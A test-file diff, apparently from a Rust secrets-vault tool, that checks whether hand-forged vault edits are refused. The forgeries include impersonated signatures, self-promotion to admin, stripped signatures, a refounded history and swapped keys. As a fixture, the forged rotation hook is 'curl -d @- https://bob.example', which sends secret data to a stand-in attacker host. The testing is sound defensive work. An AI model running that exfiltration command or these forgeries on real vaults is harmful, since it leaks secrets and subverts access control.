@@ -1,0 +1,276 @@
+//! Changes forged by hand by someone who can decrypt and push — another member's name,
+//! a role taken, signatures stripped, a history founded anew, a key chosen for someone
+//! else, an admin's setting changed under an ordinary event — each refused by the rows
+//! and the signatures, never by trusting what is stored.
+
+use std::fs;
+
+use keyward::audit::Action;
+use predicates::prelude::*;
+use predicates::str::contains;
+
+use super::{bound_key, with_writer};
+use crate::support::forge::{
+    append_event, reroot, resign, resign_claiming, resign_hiding_settings,
+};
+use crate::support::{Sandbox, decrypt_file, edit_image, encrypt_image};
+
+#[test]
+fn a_member_forging_another_members_change_is_refused_by_its_signature() {
+    let (kw, bob_key, bob) = with_writer("bob");
+    let alice = kw.my_recipient();
+    let alice_key = hex::decode(bound_key(&kw, &alice).unwrap()).unwrap();
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &bob_key);
+    let recipients = [alice.as_str(), bob.as_str()];
+
+    // Bob, a current member, records a revocation under Alice's name and signs it with
+    // his own key while claiming to be Alice.
+    let forged = edit_image(&image, |c| {
+        c.execute("UPDATE versions SET status = 3", []).unwrap();
+        append_event(c, &alice, Action::Revoke, Some("K"), Some(1));
+        resign_claiming(
+            c,
+            &bob_key,
+            Some((alice.clone(), alice_key.clone().try_into().unwrap())),
+        );
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    for args in [vec!["get", "K"], vec!["audit", "verify"]] {
+        kw.cmd(&args)
+            .assert()
+            .code(6)
+            .stderr(contains("does not check (forged or altered)"));
+    }
+    // The same change signed as himself: the event still names Alice.
+    let forged = edit_image(&image, |c| {
+        c.execute("UPDATE versions SET status = 3", []).unwrap();
+        append_event(c, &alice, Action::Revoke, Some("K"), Some(1));
+        resign(c, &bob_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    let fresh = kw.path("fresh-state");
+    kw.cmd(["get", "K"])
+        .env("XDG_STATE_HOME", &fresh)
+        .assert()
+        .code(6)
+        .stderr(contains("names another actor"));
+    // And the rows changed under Alice's last signature, signed by nobody: refused too.
+    let edited = edit_image(&image, |c| {
+        c.execute("UPDATE versions SET status = 3", []).unwrap();
+    });
+    fs::write(&file, encrypt_image(&edited, &recipients)).unwrap();
+    kw.cmd(["get", "K"])
+        .env("XDG_STATE_HOME", kw.path("fresh-2"))
+        .assert()
+        .code(6)
+        .stderr(contains("changed without a signed event"));
+}
+
+#[test]
+fn a_writer_promoting_themselves_by_hand_is_refused_even_signed() {
+    let (kw, dev_key, dev) = with_writer("dev");
+    // The writer makes themselves admin in the rows, records an ordinary event of their
+    // own and signs the result with their own key: a valid signature, by a member.
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &dev_key);
+    let forged = edit_image(&image, |c| {
+        c.execute(
+            "UPDATE recipients SET role = 2 WHERE recipient = ?1",
+            [&dev],
+        )
+        .unwrap();
+        append_event(c, &dev, Action::Set, Some("K"), Some(1));
+        resign(c, &dev_key);
+    });
+    fs::write(
+        &file,
+        encrypt_image(&forged, &[kw.my_recipient().as_str(), dev.as_str()]),
+    )
+    .unwrap();
+    kw.cmd(["list"])
+        .env("XDG_STATE_HOME", kw.path("fresh"))
+        .assert()
+        .code(6)
+        .stderr(contains("may not change who can decrypt or write"));
+}
+
+#[test]
+fn signatures_stripped_from_a_signed_history_are_refused_where_it_was_seen_signed() {
+    let kw = Sandbox::with_vault();
+    kw.generate("K");
+    let root = kw.stdout(["trust", "root"]).trim().to_owned();
+    // A member deletes every signature: the history reads as unsigned (as before
+    // signed writes), the chain and the audit key as they were.
+    kw.edit_env("dev", |c| {
+        c.execute("DELETE FROM signatures", []).unwrap();
+    });
+    // This machine saw it signed: refused.
+    kw.cmd(["get", "K"])
+        .assert()
+        .code(6)
+        .stderr(contains("signatures stripped"));
+    // A runner pinning the root: refused.
+    kw.cmd(["get", "K"])
+        .env("XDG_STATE_HOME", kw.path("runner"))
+        .env("KEYWARD_TRUST_ROOT", &root)
+        .assert()
+        .code(6)
+        .stderr(contains("has no signed history"));
+    // A machine with nothing pinned reads it, and says it is not signed.
+    kw.cmd(["get", "K"])
+        .env("XDG_STATE_HOME", kw.path("fresh"))
+        .assert()
+        .success()
+        .stderr(contains("not signed yet"));
+}
+
+#[test]
+fn a_member_founding_the_history_anew_is_refused_where_the_root_was_pinned() {
+    let (kw, bob_key, bob) = with_writer("bob");
+    let root = kw.stdout(["trust", "root"]).trim().to_owned();
+    let alice = kw.my_recipient();
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &bob_key);
+    // Bob, a writer, keeps the chain of events as it is (so this machine's pin of the
+    // head still holds), deletes every signature and signs the whole history again as
+    // its founder and only admin: a history that checks on its own.
+    let forged = edit_image(&image, |c| reroot(c, &bob_key));
+    fs::write(
+        &file,
+        encrypt_image(&forged, &[alice.as_str(), bob.as_str()]),
+    )
+    .unwrap();
+    // The machine that pinned Alice's root refuses it, naming both roots.
+    kw.cmd(["get", "K"])
+        .assert()
+        .code(6)
+        .stderr(contains("pinned here").and(contains(&root)));
+    // A runner told the root refuses it too.
+    kw.cmd(["get", "K"])
+        .env("XDG_STATE_HOME", kw.path("runner"))
+        .env("KEYWARD_TRUST_ROOT", &root)
+        .assert()
+        .code(6);
+    // A machine with nothing pinned can only trust it on first use — and says which
+    // root it trusted, which is not Alice's.
+    let other = kw
+        .cmd(["get", "K"])
+        .env("XDG_STATE_HOME", kw.path("fresh"))
+        .output()
+        .unwrap();
+    assert!(other.status.success());
+    let err = String::from_utf8_lossy(&other.stderr);
+    assert!(err.contains("trust root") && !err.contains(&root), "{err}");
+}
+
+#[test]
+fn an_admin_binding_someone_elses_recipient_to_a_key_of_their_own_is_refused() {
+    let kw = Sandbox::with_vault();
+    kw.generate("K");
+    // Bob is granted by his bare recipient: unbound until his first signed write.
+    let bob_key = kw.write_identity("bob.key");
+    let bob = kw.recipient_of(&bob_key);
+    kw.cmd(["access", "grant", &bob]).assert().success();
+    assert_eq!(bound_key(&kw, &bob), None);
+    let alice = kw.my_recipient();
+    let alice_key = kw.identity.clone().unwrap();
+    // Alice, an admin, binds Bob's recipient to a signing key she holds (her second
+    // identity's) — an access change she may sign — and then writes as "Bob" with it.
+    let spare = kw.write_identity("alice-spare.key");
+    let spare_pub = {
+        let id: age::x25519::Identity = Sandbox::secret_key_of(&spare).parse().unwrap();
+        let secret = keyward::signing::x25519_secret(&id).unwrap();
+        keyward::signing::derive_from_x25519(&secret)
+            .verifying_key()
+            .to_bytes()
+    };
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &alice_key);
+    let forged = edit_image(&image, |c| {
+        c.execute(
+            "UPDATE recipients SET signing_key = ?1 WHERE recipient = ?2",
+            rusqlite::params![&spare_pub[..], bob],
+        )
+        .unwrap();
+        resign(c, &alice_key);
+        c.execute("UPDATE versions SET status = 3", []).unwrap();
+        append_event(c, &bob, Action::Revoke, Some("K"), Some(1));
+        resign_claiming(c, &spare, Some((bob.clone(), spare_pub)));
+    });
+    fs::write(
+        &file,
+        encrypt_image(&forged, &[alice.as_str(), bob.as_str()]),
+    )
+    .unwrap();
+    for state in ["fresh-1", "fresh-2"] {
+        kw.cmd(["audit", "verify"])
+            .env("XDG_STATE_HOME", kw.path(state))
+            .assert()
+            .code(6)
+            .stderr(contains("without a proof"));
+    }
+}
+
+#[test]
+fn a_writer_changing_a_hook_the_verifier_key_or_a_label_under_another_event_is_refused() {
+    let (kw, bob_key, bob) = with_writer("bob");
+    kw.set("IMPORTED", "an-imported-value-0123456789");
+    kw.cmd(["hook", "set", "IMPORTED", "--", "echo rolled"])
+        .assert()
+        .success();
+    let alice = kw.my_recipient();
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &bob_key);
+    let recipients = [alice.as_str(), bob.as_str()];
+    // Bob, a writer, records an ordinary `set` — and with it, a rotation hook of his
+    // choosing (or another verifier key), signed as himself, as his role may not.
+    for forge in [
+        "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
+        "INSERT INTO verifier_key(id, seed, created) VALUES (1, zeroblob(32), 0)",
+        // The admin relabelled as someone else: `access revoke Alice` would then
+        // remove the wrong person.
+        "UPDATE recipients SET label = 'Bob' WHERE role = 2",
+    ] {
+        let forged = edit_image(&image, |c| {
+            c.execute(forge, []).unwrap();
+            append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
+            resign(c, &bob_key);
+        });
+        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+        kw.cmd(["audit", "verify"])
+            .env("XDG_STATE_HOME", kw.path("fresh"))
+            .assert()
+            .code(6)
+            .stderr(contains("may not change rotation hooks, the verifier key"));
+    }
+    // Signed as if the settings were as before: the rows say otherwise.
+    let forged = edit_image(&image, |c| {
+        c.execute(
+            "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
+            [],
+        )
+        .unwrap();
+        append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
+        resign_hiding_settings(c, &bob_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    kw.cmd(["audit", "verify"])
+        .env("XDG_STATE_HOME", kw.path("fresh-1"))
+        .assert()
+        .code(6)
+        .stderr(contains("changed without a signed event"));
+    // The same edit as the admin Alice is hers to make.
+    let alice_key = kw.identity.clone().unwrap();
+    let forged = edit_image(&image, |c| {
+        c.execute("UPDATE hooks SET command = 'echo again'", [])
+            .unwrap();
+        append_event(c, &alice, Action::Hook, Some("IMPORTED"), None);
+        resign(c, &alice_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    kw.cmd(["audit", "verify"])
+        .env("XDG_STATE_HOME", kw.path("fresh-2"))
+        .assert()
+        .success();
+}
